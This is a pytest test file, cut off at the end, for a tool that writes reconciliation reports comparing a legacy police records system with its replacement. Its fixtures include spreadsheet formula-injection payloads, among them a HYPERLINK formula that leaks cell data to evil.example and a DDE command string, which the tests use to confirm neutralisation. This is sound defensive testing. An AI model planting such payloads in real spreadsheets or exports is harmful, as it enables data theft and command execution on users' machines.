"""The reconciliation reports, read back the way an auditor's tools would read them.

Results are built by hand so every awkward value is present: non-ASCII names, commas,
quotes and line breaks, text a spreadsheet would run as a formula, negative numbers, NULLs,
fingerprinted intelligence text, and a spool that is iterable but not a list.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import stat
import zipfile
from collections import Counter
from pathlib import Path

import hashlib

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from hypothesis import given, strategies as st

from core.digest import text_fingerprint
from core.errors import OutputError
from reconcile.model import (CATEGORIES, DISCREPANCY_COLUMNS, ENTITIES, STATS_COLUMNS, Discrepancy,
                             EntityTotals, ReconResult, StatRow)
from reports import xlsx
from reports.statistics import SHEETS as STATISTICS_SHEETS
from reports.reconciliation import (
    COLUMN_LABELS, FILE_NAMES, ReconciliationReports, ReportInconsistent, format_score, write_reconciliation_reports,
)
from reports.safe import mask_credentials, needs_neutralising, neutralise, show_invisible
from reports.text_reconcile import render_demo, render_reconciliation, render_simulation

UTC = dt.timezone.utc
SECRET_INTEL = "Subject X meets courier at the Red Lion every Friday"
PASSWORD = "s3cret-Pa55"

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+44 161 555 0100", "-cmd|' /C calc'!A0",
              "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]


class Spool:
    """Re-iterable like the reconciler's on-disk spool: no len(), no indexing; counts passes."""

    def __init__(self, rows):
        self._rows = tuple(rows)
        self.passes = 0

    def __iter__(self):
        self.passes += 1
        yield from self._rows


def tricky_discrepancies() -> list[Discrepancy]:
    fp = text_fingerprint
    return [
        Discrepancy("crime", "MISSING", "CR/000101/19", detail="BAD_REFERENCE"),
        Discrepancy("crime", "MISSING", "CR/000102/19", detail=INJECTIONS[0]),
        Discrepancy("crime", "MISSING", "CR/000103/19", detail="Zoë Ó'Brien, Ćwikła — “quoted”"),
        Discrepancy("crime", "ALTERED", "CR/000201/19", "CR/000201/19", "location.address",
                    'Flat 2, "The Mill"\nBolton', 'Flat 2, "The Mill"\nBolton', "Flat 2, The Mill, Bolton"),
        Discrepancy("crime", "ALTERED", "CR/000202/19", "CR/000202/19", "location.longitude",
                    "-2.500000", "-2.500000", "-1"),
        Discrepancy("crime", "ALTERED", "CR/000203/19", "CR/000203/19", "victim_phone",
                    INJECTIONS[1], INJECTIONS[1], INJECTIONS[2]),
        Discrepancy("crime", "ALTERED", "CR/000204/19", "CR/000204/19", "mo_text",
                    INJECTIONS[3], INJECTIONS[3], None, detail="TRUNCATED"),
        Discrepancy("crime", "ALTERED", "CR/000205/19", "CR/000205/19", "recorded_at",
                    "2019-03-31T00:30:00Z", "2019-03-31T00:30:00Z", "2019-03-31T01:30:00Z", detail="OFFSET_1H"),
        Discrepancy("crime", "DUPLICATE", "CR/000301/19", "CR/000301/19", detail=INJECTIONS[4]),
        Discrepancy("crime", "UNEXPECTED", "CR/999999/19", "CR/999999/19", detail=INJECTIONS[5]),
        Discrepancy("crime", "PROBABLE_MATCH", "CR/000401/19", "CR/900401/24", score=93.456, detail="AUTO"),
        Discrepancy("crime", "PROBABLE_MATCH", "CR/000402/19", "CR/900402/24", score=100.0, detail="AUTO"),
        Discrepancy("crime", "PROBABLE_MATCH", "CR/000403/19", "CR/900403/24", score=71.04, detail="REVIEW"),
        Discrepancy("intelligence", "MISSING", "IN/000001/19", detail="EMPTY_INTELLIGENCE"),
        Discrepancy("intelligence", "ALTERED", "IN/000002/19", "INT-2019-000002", "intel_text",
                    fp(SECRET_INTEL), fp(SECRET_INTEL), fp(SECRET_INTEL[:20]), detail="TRUNCATED"),
        Discrepancy("intelligence", "ALTERED", "IN/000003/19", "INT-2019-000003", "handling_code", "P", "P", "C"),
        Discrepancy("person", "MISSING", "70031", detail="#DIV/0!"),
        Discrepancy("person", "ALTERED", "70032", "7d4c2a9e-0000-4000-8000-000000000001", "surname",
                    "O'Neill", "O'NEILL", "Ó Néill"),
        Discrepancy("person", "UNEXPECTED", None, "7d4c2a9e-0000-4000-8000-000000000002"),
        Discrepancy("crime_person", "MISSING", "CR/004512/19:70031:VICTIM"),
        Discrepancy("crime_person", "UNEXPECTED", "CR/004512/19:70099:SUSPECT"),
    ]


def tricky_stats() -> list[StatRow]:
    rows = []
    for month in ("2019-01", "2019-02", "2019-03"):
        for district in ("BOLTON", "WIGAN", "UNKNOWN"):
            for group in ("THEFT", "VIOLENCE", "=BURGLARY"):
                legacy = 10 + len(district)
                new = legacy - (1 if (month, district) == ("2019-02", "WIGAN") else 0) + (2 if group == "THEFT" and month == "2019-03" else 0)
                rows.append(StatRow(month, district, group, legacy, new, legacy // 5, new // 5))
    return rows


def totals_for(discrepancies) -> dict[str, EntityTotals]:
    totals = {e: EntityTotals(e, legacy_total=1000 + i, legacy_excluded=i, new_total=990 + i,
                              matched_keyed=950, matched_auto=3, new_in_iops=2) for i, e in enumerate(ENTITIES)}
    for d in discrepancies:
        totals[d.entity].categories[d.category] += 1
        if d.category == "MISSING" and d.detail in ("BAD_REFERENCE", "EMPTY_INTELLIGENCE"):
            totals[d.entity].missing_explained += 1  # rejected by the mapping: known, not counted
    return totals


def make_result(discrepancies=None, stats=None, *, target_url="postgresql+psycopg://auditor:***@db.example/iops",
                thresholds=None) -> ReconResult:
    discrepancies = tricky_discrepancies() if discrepancies is None else discrepancies
    stats = tricky_stats() if stats is None else stats
    return ReconResult(
        legacy_url="mysql+pymysql://root@127.0.0.1:3306/opus",
        target_url=target_url,
        started_at=dt.datetime(2024, 5, 1, 9, 0, 5, tzinfo=UTC),
        finished_at=dt.datetime(2024, 5, 1, 10, 2, 13, tzinfo=dt.timezone(dt.timedelta(hours=1))),
        tool_version="0.1.0",
        mapping_digest="sha256:0123456789abcdef",
        thresholds=thresholds or {"auto": 90.0, "review": 70.0, "fail": 0},
        totals=totals_for(discrepancies),
        discrepancies=Spool(discrepancies),
        stats=stats,
    )


def expected_csv_row(d: Discrepancy) -> list[str]:
    out = []
    for name, value in zip(DISCREPANCY_COLUMNS, d.as_row()):
        if value is None:
            out.append("")
        elif name == "score":
            out.append(format_score(value))
        else:
            out.append(neutralise(value))
    return out


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:  # the byte-order mark Excel needs
        return list(csv.reader(f))


def group_of(title: str) -> tuple[str, str]:
    entity, category = title.split(" (")[0].split(" ")
    return entity, category


OTHER_SHEETS = ("Summary", "Sign-off", "Field tally", "Sample to check", *STATISTICS_SHEETS, "Run information")


def data_sheets(wb) -> list[str]:
    return [t for t in wb.sheetnames if t.split(" (")[0] not in OTHER_SHEETS]


_FIELD_OF_LABEL = {label: name for name, label in COLUMN_LABELS.items()}


def header(ws) -> dict[str, int]:
    """A sheet's header: CSV column name (or the label itself) -> column number."""
    return {_FIELD_OF_LABEL.get(c.value, c.value): c.column for c in ws[1]
            if c.value is not None and c.hyperlink is None}  # not the link back to the Summary


def sheet_dicts(ws) -> list[dict]:
    """A discrepancy sheet's rows as {CSV column name: value}."""
    cols = header(ws)
    return [{name: row[i - 1] for name, i in cols.items()}
            for row in ws.iter_rows(min_row=2, max_col=max(cols.values()), values_only=True)]


@pytest.fixture
def written(tmp_path):
    result = make_result()
    paths = write_reconciliation_reports(result, tmp_path / "reports")
    return result, paths


# ---- files and folder ---------------------------------------------------------------------
def test_four_files_owner_only_and_nothing_else(written):
    result, paths = written
    assert set(paths) == set(FILE_NAMES)
    folder = paths["summary"].parent
    assert sorted(p.name for p in folder.iterdir()) == sorted(FILE_NAMES.values())
    for path in paths.values():
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path
    assert result.report_paths == paths and result.out_dir == folder


def test_spool_is_read_once_and_need_not_be_a_list(written):
    result, _ = written
    assert not isinstance(result.discrepancies, (list, tuple))
    assert result.discrepancies.passes == 1


def test_unwritable_folder_is_one_line_output_error(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    for out_dir in (blocker / "reports", blocker):
        with pytest.raises(OutputError) as err:
            write_reconciliation_reports(make_result(), out_dir)
        assert "\n" not in str(err.value) and str(out_dir) in str(err.value)


def test_permission_denied_is_output_error(tmp_path, monkeypatch):
    # Simulated: as root a mode-0500 folder is writable, so deny at the system call instead.
    folder = tmp_path / "denied"
    real_open = os.open

    def deny(path, *args, **kwargs):
        if str(path).startswith(str(tmp_path)):  # the folder, and the staging folder beside it
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", deny)
    with pytest.raises(OutputError, match="Permission denied"):
        write_reconciliation_reports(make_result(), folder)
    monkeypatch.undo()
    assert list(folder.iterdir()) == []
    assert [p.name for p in tmp_path.iterdir()] == ["denied"]


def _boom(*args, **kwargs):
    raise RuntimeError("simulated failure while writing")


def _failing_after(rows, n: int):
    """The rows, but the source fails after ``n`` of them (a spool or a query that breaks)."""
    yield from list(rows)[:n]
    _boom()


@pytest.mark.parametrize("where", ["discrepancies", "stats", "workbook-save", "json"])
def test_failure_mid_write_publishes_nothing_and_keeps_the_previous_set(tmp_path, monkeypatch, where):
    out_dir = tmp_path / "reports"
    write_reconciliation_reports(make_result(), out_dir)
    before = {name: (out_dir / name).read_bytes() for name in FILE_NAMES.values()}

    # In the order written: the rows, the statistics, the workbook, the summary JSON last.
    result = make_result()
    if where == "discrepancies":
        result.discrepancies = _failing_after(tricky_discrepancies(), 3)
    elif where == "stats":
        result.stats = _failing_after(tricky_stats(), 1)
    elif where == "workbook-save":
        monkeypatch.setattr(openpyxl.Workbook, "save", _boom)
    else:
        monkeypatch.setattr(json, "dump", _boom)
    with pytest.raises(RuntimeError, match="simulated"):
        write_reconciliation_reports(result, out_dir)
    # The earlier complete set is untouched, and no temporary file is left behind.
    assert sorted(p.name for p in out_dir.iterdir()) == sorted(FILE_NAMES.values())
    assert [p.name for p in tmp_path.iterdir()] == ["reports"]  # no staging folder beside it
    assert {name: (out_dir / name).read_bytes() for name in FILE_NAMES.values()} == before


def test_failure_mid_write_in_a_fresh_folder_leaves_no_report(tmp_path, monkeypatch):
    monkeypatch.setattr(openpyxl.Workbook, "save", _boom)
    out_dir = tmp_path / "fresh"
    with pytest.raises(RuntimeError):
        write_reconciliation_reports(make_result(), out_dir)
    assert list(out_dir.iterdir()) == []
    assert [p.name for p in tmp_path.iterdir()] == ["fresh"]  # no staging folder beside it


def test_disk_error_becomes_output_error_and_cleans_up(tmp_path, monkeypatch):
    def full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", full)
    out_dir = tmp_path / "full"
    with pytest.raises(OutputError, match="No space left on device"):
        write_reconciliation_reports(make_result(), out_dir)
    assert list(out_dir.iterdir()) == []
    assert [p.name for p in tmp_path.iterdir()] == ["full"]  # no staging folder beside it


def test_totals_that_disagree_with_rows_are_refused(tmp_path):
    result = make_result()
    result.totals["crime"].categories["MISSING"] += 1
    with pytest.raises(ReportInconsistent, match="crime MISSING"):
        write_reconciliation_reports(result, tmp_path / "r")
    assert list((tmp_path / "r").iterdir()) == []


def test_written_in_steps_equals_written_at_once(tmp_path):
    """The reconciler writes the crime rows and statistics early, the rest at the end."""
    result = make_result()
    write_reconciliation_reports(result, tmp_path / "once")
    rows = list(result.discrepancies)
    reports = ReconciliationReports(tmp_path / "steps")
    reports.add(d for d in rows if d.entity == "crime")
    reports.add_stats(result.stats)
    reports.add(d for d in rows if d.entity != "crime")
    reports.finish(result)
    for name in ("discrepancies.csv", "crime_stats.csv"):
        assert (tmp_path / "steps" / name).read_bytes() == (tmp_path / "once" / name).read_bytes(), name
    # The same but for the workbook's checksum (a workbook records when it was saved).
    docs = [json.loads((tmp_path / d / "summary.json").read_text()) for d in ("steps", "once")]
    for doc in docs:
        doc["sha256"].pop("reconciliation.xlsx")
    assert docs[0] == docs[1]
    once, steps = (openpyxl.load_workbook(tmp_path / d / "reconciliation.xlsx") for d in ("once", "steps"))
    assert steps.sheetnames == once.sheetnames
    for title in once.sheetnames:
        assert list(steps[title].values) == list(once[title].values), title


def test_statistics_that_changed_after_they_were_written_are_refused(tmp_path):
    result = make_result()
    reports = ReconciliationReports(tmp_path / "r")
    reports.add(result.discrepancies)
    reports.add_stats(result.stats[1:])
    with pytest.raises(ReportInconsistent, match="crime statistics changed"):
        reports.finish(result)
    assert list((tmp_path / "r").iterdir()) == []


# ---- discrepancies.csv --------------------------------------------------------------------
def test_discrepancies_csv_is_rfc4180_and_equals_the_rows(written):
    _, paths = written
    raw = paths["discrepancies"].read_bytes()
    raw.decode("utf-8")  # UTF-8 throughout, with the byte-order mark Excel needs to read it so
    assert raw.startswith(b"\xef\xbb\xbfentity,category,") and raw.endswith(b"\r\n")
    assert paths["crime_stats"].read_bytes().startswith(b"\xef\xbb\xbfmonth,")
    rows = read_csv(paths["discrepancies"])
    assert rows[0] == list(DISCREPANCY_COLUMNS)
    assert rows[1:] == [expected_csv_row(d) for d in tricky_discrepancies()]


def test_csv_neutralises_formulas_but_not_negative_numbers(written):
    _, paths = written
    cells = [c for row in read_csv(paths["discrepancies"])[1:] for c in row]
    for text in INJECTIONS:
        assert "'" + text in cells, text
        assert text not in cells
    assert "-2.500000" in cells and "-1" in cells  # negative numbers are data
    assert not [c for c in cells if needs_neutralising(c)]
    by_ref = {row[2]: row for row in read_csv(paths["discrepancies"])[1:]}
    assert by_ref["CR/000201/19"][5] == 'Flat 2, "The Mill"\nBolton'  # commas, quotes, newline kept
    assert by_ref["CR/000103/19"][9] == "Zoë Ó'Brien, Ćwikła — “quoted”"
    assert by_ref["CR/000204/19"][7] == ""  # None -> empty cell
    assert [by_ref[r][8] for r in ("CR/000401/19", "CR/000402/19", "CR/000403/19")] == ["93.5", "100.0", "71.0"]


def test_crime_stats_csv(written):
    _, paths = written
    assert paths["crime_stats"].read_bytes().startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = read_csv(paths["crime_stats"])
    assert rows[0] == list(STATS_COLUMNS)  # read_csv reads the byte-order mark as such (utf-8-sig)
    stats = tricky_stats()
    assert len(rows) == len(stats) + 1
    for row, s in zip(rows[1:], stats):
        assert row[0] == s.month and row[1] == s.district_code
        assert row[2] == neutralise(s.offence_group)
        assert [int(v) for v in row[3:8]] == [s.legacy_count, s.new_count, s.delta, s.legacy_no_location,
                                              s.new_no_location]
        assert [int(v) for v in row[9:13]] == [0, s.legacy_count, s.delta, 0] and row[13] == "N"
    assert any(int(r[5]) < 0 for r in rows[1:]) and any(int(r[5]) > 0 for r in rows[1:])


# ---- summary.json -------------------------------------------------------------------------
def test_summary_json(written):
    result, paths = written
    doc = json.loads(paths["summary"].read_text(encoding="utf-8"))
    counts = Counter((d.entity, d.category) for d in tricky_discrepancies())
    assert doc["result"] == "FAIL" and doc["exit_code"] == 1
    for entity in ENTITIES:
        for category in CATEGORIES:
            assert doc["entities"][entity]["categories"][category] == counts[(entity, category)]
        for attr in ("legacy_total", "legacy_excluded", "new_total", "matched_keyed", "matched_auto", "new_in_iops"):
            assert doc["entities"][entity][attr] == getattr(result.totals[entity], attr)
    assert doc["categories"]["ALTERED"] == sum(n for (e, c), n in counts.items() if c == "ALTERED")
    assert doc["discrepancies"] == len(tricky_discrepancies())
    assert doc["counted_failures"] == result.counted_failures == len(tricky_discrepancies()) - 3 - 2
    assert doc["entities"]["crime"]["missing_explained"] == 1
    assert doc["entities"]["intelligence"]["missing_explained"] == 1
    assert sum(e["counted_failures"] for e in doc["entities"].values()) == result.counted_failures
    assert doc["thresholds"] == {"auto": 90.0, "review": 70.0, "fail": 0}
    assert doc["started_at"] == "2024-05-01T09:00:05Z"
    assert doc["finished_at"] == "2024-05-01T09:02:13Z"  # given in UTC+1, written as UTC
    assert doc["tool_version"] == "0.1.0" and doc["mapping_digest"] == "sha256:0123456789abcdef"
    assert doc["files"] == FILE_NAMES
    assert doc["crime_stats"]["legacy_count"] == sum(s.legacy_count for s in tricky_stats())


def test_pass_result(tmp_path):
    result = make_result(discrepancies=[], thresholds={"auto": 90.0, "review": 70.0, "fail": 0})
    paths = write_reconciliation_reports(result, tmp_path / "ok")
    assert json.loads(paths["summary"].read_text())["result"] == "PASS"
    assert read_csv(paths["discrepancies"]) == [list(DISCREPANCY_COLUMNS)]
    wb = openpyxl.load_workbook(paths["workbook"])
    assert wb.sheetnames == list(OTHER_SHEETS)
    assert "PASS" in [c.value for row in wb["Summary"].iter_rows() for c in row]


def test_probable_matches_alone_do_not_fail(tmp_path):
    pairs = [Discrepancy("crime", "PROBABLE_MATCH", f"CR/{i:06d}/19", f"CR/9{i:05d}/24", score=95.0, detail="AUTO")
             for i in range(3)]
    paths = write_reconciliation_reports(make_result(discrepancies=pairs), tmp_path / "pm")
    doc = json.loads(paths["summary"].read_text())
    assert doc["result"] == "PASS" and doc["discrepancies"] == 3 and doc["counted_failures"] == 0


# ---- passwords and intelligence text ------------------------------------------------------
def _all_text(paths) -> str:
    parts = [paths[k].read_text(encoding="utf-8") for k in ("discrepancies", "crime_stats", "summary")]
    with zipfile.ZipFile(paths["workbook"]) as z:
        parts += [z.read(name).decode("utf-8") for name in z.namelist() if name.endswith(".xml")]
    return "\n".join(parts)


def test_passwords_masked_everywhere_even_if_given_unmasked(tmp_path):
    result = make_result(target_url=f"postgresql+psycopg://auditor:{PASSWORD}@db.example/iops")
    paths = write_reconciliation_reports(result, tmp_path / "pw")
    text = _all_text(paths) + render_reconciliation(result)
    assert PASSWORD not in text
    assert "postgresql+psycopg://auditor:***@db.example/iops" in text


def test_intelligence_text_never_appears_even_if_the_reconciler_slipped(tmp_path):
    leaked = Discrepancy("intelligence", "ALTERED", "IN/000009/19", "INT-2019-000009", "intel_text",
                         SECRET_INTEL, SECRET_INTEL, SECRET_INTEL + " (edited)")
    rejected = Discrepancy("intelligence", "MISSING", "IN/000010/19", legacy_value="INT_TEXT=" + SECRET_INTEL,
                           detail="SOME_REJECT")
    empty = Discrepancy("intelligence", "MISSING", "IN/000011/19", legacy_value="INT_TEXT=", detail="EMPTY_INTELLIGENCE")
    discrepancies = tricky_discrepancies() + [leaked, rejected, empty]
    paths = write_reconciliation_reports(make_result(discrepancies), tmp_path / "intel")
    text = _all_text(paths)
    assert "Red Lion" not in text
    rows = {r[2]: r for r in read_csv(paths["discrepancies"])[1:]}
    assert rows["IN/000009/19"][5] == text_fingerprint(SECRET_INTEL)
    assert rows["IN/000009/19"][7] == text_fingerprint(SECRET_INTEL + " (edited)")
    assert rows["IN/000002/19"][5] == text_fingerprint(SECRET_INTEL)  # already a fingerprint: kept
    assert rows["IN/000010/19"][5] == "INT_TEXT=" + text_fingerprint(SECRET_INTEL)
    assert rows["IN/000011/19"][5] == "INT_TEXT="


# ---- the workbook -------------------------------------------------------------------------
@pytest.fixture
def workbook(written):
    result, paths = written
    return result, paths, openpyxl.load_workbook(paths["workbook"])


def test_sheet_order_summary_first(workbook):
    _, _, wb = workbook
    assert wb.sheetnames == [
        "Summary", "Sign-off",
        "crime MISSING", "crime ALTERED", "crime DUPLICATE", "crime UNEXPECTED", "crime PROBABLE_MATCH",
        "intelligence MISSING", "intelligence ALTERED",
        "person MISSING", "person ALTERED", "person UNEXPECTED",
        "crime_person MISSING", "crime_person UNEXPECTED",
        "Field tally", "Sample to check", *STATISTICS_SHEETS, "Run information",
    ]
    assert wb.active.title == "Summary"
    assert all(len(t) <= 31 for t in wb.sheetnames)


def _as_csv_text(name: str, value) -> str:
    """A workbook cell's value as discrepancies.csv writes it."""
    if value is None or (value == xlsx.EMPTY and name in ("legacy_value", "expected_value", "new_value")):
        return ""
    if name == "score":
        return format_score(value)
    if isinstance(value, dt.datetime):  # UK local time, from an instant written in UTC
        return value.replace(tzinfo=xlsx.LONDON).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return value


def test_discrepancy_sheets_match_the_csv(workbook):
    """Every CSV row is on its entity × category sheet (MISSING rows with no reason first), with
    the explanation beside the code, the work columns, and only the columns that apply."""
    _, paths, wb = workbook
    with open(paths["discrepancies"], encoding="utf-8-sig", newline="") as f:
        csv_rows = list(csv.DictReader(f))
    per_group = Counter((r["entity"], r["category"]) for r in csv_rows)
    seen = Counter()
    for title in data_sheets(wb):
        ws = wb[title]
        entity, category = group_of(title)
        cols = header(ws)
        names = list(cols)
        assert names[0] == "legacy_ref" and names[-3:] == ["Status", "Owner", "Comment"]
        assert names.index("explanation") + 1 == names.index("detail")  # the explanation beside the code
        assert "entity" not in names and "category" not in names  # the sheet's title says them
        if category == "MISSING":
            assert not {"expected_value", "new_value", "field", "score"} & set(names)
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{get_column_letter(len(names))}{ws.max_row}"
        rows = sheet_dicts(ws)
        seen[(entity, category)] += len(rows)
        expected = [r for r in csv_rows if (r["entity"], r["category"]) == (entity, category)]
        if category == "MISSING":  # no reason known first: those rows need a person
            expected.sort(key=lambda r: r["detail"] != "")
        for row, want in zip(rows, expected, strict=True):
            for name in names[:-3]:
                if name == "explanation":
                    assert row[name], (title, row)
                    continue
                assert _as_csv_text(name, row[name]) == want[name].replace("\r\n", "\n").replace("\r", "\n"), \
                    (title, name, row)
            assert row["Status"] == "To review" and row["Owner"] is None
        for letter in (get_column_letter(i) for i in cols.values()):  # readable widths, set for every column
            assert 8 <= ws.column_dimensions[letter].width <= 60
    assert seen == per_group


def test_explanations_in_plain_words(workbook):
    _, _, wb = workbook
    missing = {r["legacy_ref"]: r for r in sheet_dicts(wb["crime MISSING"])}
    assert missing["CR/000101/19"]["explanation"].startswith("not migrated: the record's reference")
    altered = {r["legacy_ref"]: r for r in sheet_dicts(wb["crime ALTERED"])}
    assert altered["CR/000205/19"]["explanation"] == "time is 1 hour(s) late in iOPS"
    assert altered["CR/000204/19"]["explanation"].startswith("text cut short")
    assert altered["CR/000204/19"]["new_value"] == xlsx.EMPTY  # a lost value is shown, not a blank cell
    lost = {r["legacy_ref"]: r for r in sheet_dicts(wb["person MISSING"])}
    assert lost["70031"]["explanation"]
    pairs = {r["legacy_ref"]: r for r in sheet_dicts(wb["crime PROBABLE_MATCH"])}
    assert "counted as present" in pairs["CR/000401/19"]["explanation"]
    assert "person must decide" in pairs["CR/000403/19"]["explanation"]


def test_missing_with_no_reason_comes_first(tmp_path):
    rows = [Discrepancy("crime", "MISSING", "CR/000001/19", detail="UNMAPPED_OFFENCE"),
            Discrepancy("crime", "MISSING", "CR/000002/19"),
            Discrepancy("crime", "MISSING", "CR/000003/19", detail="BAD_REFERENCE"),
            Discrepancy("crime", "MISSING", "CR/000004/19")]
    result = make_result(rows, stats=[])
    result.totals["crime"].missing_explained = 2
    paths = write_reconciliation_reports(result, tmp_path / "m")
    refs = [r["legacy_ref"] for r in sheet_dicts(openpyxl.load_workbook(paths["workbook"])["crime MISSING"])]
    assert refs == ["CR/000002/19", "CR/000004/19", "CR/000001/19", "CR/000003/19"]
    assert [r[2] for r in read_csv(paths["discrepancies"])[1:]] == [d.legacy_ref for d in rows]  # the CSV as found


def test_times_are_real_values_in_uk_local_time(workbook):
    _, _, wb = workbook
    ws = wb["crime ALTERED"]
    cols = header(ws)
    row = next(r for r in ws.iter_rows(min_row=2) if r[cols["legacy_ref"] - 1].value == "CR/000205/19")
    expected, new = row[cols["expected_value"] - 1], row[cols["new_value"] - 1]
    # 2019-03-31T00:30Z is 00:30 GMT; 01:30Z is 02:30 BST (the clocks went forward at 01:00 UTC).
    assert expected.value == dt.datetime(2019, 3, 31, 0, 30) and new.value == dt.datetime(2019, 3, 31, 2, 30)
    assert expected.is_date and expected.number_format == xlsx.DATETIME_FORMAT == "dd mmm yyyy hh:mm"


@pytest.mark.parametrize("text,expected", [
    ("2019-07-01T11:05:00Z", dt.datetime(2019, 7, 1, 12, 5)),
    ("2019-01-01T11:05:00+00:00", dt.datetime(2019, 1, 1, 11, 5)),
    ("2019-07-01 12:05", dt.datetime(2019, 7, 1, 12, 5)),  # already UK local
    ("1985-03-02", dt.date(1985, 3, 2)),
    ("2019-02-30", "2019-02-30"),  # not a real date: text as it is
    ("REC_TIME=1105", "REC_TIME=1105"),
    ("12345", "12345"),
])
def test_as_excel_time(text, expected):
    assert xlsx.as_excel_time(text) == expected


def test_altered_values_are_marked(workbook):
    _, _, wb = workbook
    ws = wb["crime ALTERED"]
    cols = header(ws)
    for row in ws.iter_rows(min_row=2):
        expected_cell, new_cell = row[cols["expected_value"] - 1], row[cols["new_value"] - 1]
        assert expected_cell.fill.fgColor.rgb.endswith(xlsx.EXPECTED_FILL.fgColor.rgb[-6:])
        assert new_cell.fill.fgColor.rgb.endswith(xlsx.DIFFERS_FILL.fgColor.rgb[-6:])
        assert row[cols["legacy_value"] - 1].fill.fill_type is None
    assert all(c.fill.fill_type is None for c in wb["crime MISSING"][2])


def test_status_and_owner_drop_downs_on_every_discrepancy_sheet(workbook):
    _, _, wb = workbook
    team = wb["Sign-off"]
    for title in data_sheets(wb):
        ws = wb[title]
        cols = header(ws)
        lists = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
        status = lists[f"{get_column_letter(cols['Status'])}2:{get_column_letter(cols['Status'])}1048576"]
        assert status.type == "list" and status.showErrorMessage
        assert status.formula1.strip('"').split(",")[0] == "To review"
        owner = lists[f"{get_column_letter(cols['Owner'])}2:{get_column_letter(cols['Owner'])}1048576"]
        assert owner.type == "list" and not owner.showErrorMessage  # a name not on the list is allowed
        sheet, cells = owner.formula1.rsplit("!", 1)
        first, last = (int(part.split("$")[-1]) for part in cells.split(":"))
        assert sheet == "'Sign-off'" and team[f"A{first}"].value == "Team member 1" and last - first == 9


def test_sign_off_sheet(workbook):
    _, _, wb = workbook
    ws = wb["Sign-off"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    head = next(i for i, r in enumerate(rows, 1) if r[:4] == ["Role", "Name", "Date", "Decision"])
    assert [rows[head + k][0] for k in range(3)] == ["Prepared by", "Reviewed by", "Approved by"]
    lists = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    decision = lists[f"D{head + 1}:D{head + 3}"]
    assert decision.type == "list" and "Accepted" in decision.formula1 and "Not accepted" in decision.formula1
    assert lists[f"C{head + 1}:C{head + 3}"].type == "date"


def test_field_tally(workbook):
    _, paths, wb = workbook
    rows = {(r[0], r[1]): r for r in wb["Field tally"].iter_rows(min_row=2, max_col=7, values_only=True)}
    # every compared field is listed, also those that agree
    from reconcile.specs import SPECS
    for entity, spec in SPECS.items():
        for rule in spec.rules:
            assert (entity, rule.name) in rows
    assert rows[("crime", "recorded_at")][6] == "differs" and rows[("crime", "status")][6] == "all equal"
    # mo_text lost (expected a value, iOPS none), phone differing: counted from the CSV's ALTERED rows
    altered = [r for r in read_csv(paths["discrepancies"])[1:] if r[1] == "ALTERED"]
    for (entity, field), (_, _, total, lost, gained, differing, _) in rows.items():
        mine = [r for r in altered if (r[0], r[4]) == (entity, field)]
        assert total == len(mine) == lost + gained + differing
        assert lost == sum(1 for r in mine if r[6] and not r[7])
    assert rows[("crime", "mo_text")][3] == 1


def test_sample_sheet(tmp_path):
    from reconcile.sample import SampledRecord

    result = make_result()
    result.sample = [SampledRecord("crime", "CR/000009/19", "CR/000009/19", "key",
                                   dt.datetime(2019, 7, 1, 11, 5, tzinfo=UTC), "Burglary - residential", "1 High St"),
                     SampledRecord("person", "70001", "6f1c…", "key", dt.date(1980, 2, 1), "SMITH, John", None)]
    result.sample_seed = 11
    paths = write_reconciliation_reports(result, tmp_path / "s")
    ws = openpyxl.load_workbook(paths["workbook"])["Sample to check"]
    rows = list(ws.iter_rows(min_row=2, max_col=8, values_only=True))
    assert rows[0] == (1, "crime", "CR/000009/19", "CR/000009/19", "OPUS key", dt.datetime(2019, 7, 1, 12, 5),
                       "Burglary - residential", "1 High St")
    assert rows[1][5] == dt.datetime(1980, 2, 1)  # a date of birth
    assert [dv.formula1 for dv in ws.data_validations.dataValidation][0].startswith('"Agrees,Differs')
    assert json.loads(paths["summary"].read_text())["sample"] == {"seed": 11, "records": 2}


def test_every_sheet_is_marked_and_printable(workbook):
    _, _, wb = workbook
    for ws in wb.worksheets:
        assert ws.oddHeader.center.text == "OFFICIAL-SENSITIVE", ws.title
        assert ws.oddFooter.center.text == "OFFICIAL-SENSITIVE", ws.title
        assert ws.oddFooter.right.text == "Page &P of &N", ws.title
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1, ws.title
        assert ws.page_setup.fitToHeight == 0 and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        if ws.title not in ("Summary", "Sign-off", "Run information", "Statistics by district", "Map"):
            # tables: header frozen, on every page (the others are forms)
            assert ws.freeze_panes == "A2" and ws.print_title_rows == "$1:$1", ws.title
            assert ws.auto_filter.ref, ws.title


def test_summary_is_readable_in_print(workbook):
    """Few columns (landscape A4 at about 100%, not 5-6 pt), sentences wrapped over merged cells."""
    _, _, wb = workbook
    ws = wb["Summary"]
    widths = [ws.column_dimensions[get_column_letter(i)].width for i in range(1, ws.max_column + 1)]
    assert ws.max_column <= 7 and sum(widths) <= 150
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("3 crimes in OPUS are missing from iOPS: 2 with no reason known") for t in texts)
    assert any("1 for a person to decide (REVIEW)" in t for t in texts)
    assert len(ws.merged_cells.ranges) > 10


def test_no_formula_anywhere_and_injection_neutralised(workbook):
    _, _, wb = workbook
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not needs_neutralising(c.value), (ws.title, c.coordinate, c.value)
                    texts.append(c.value)
    for text in INJECTIONS:
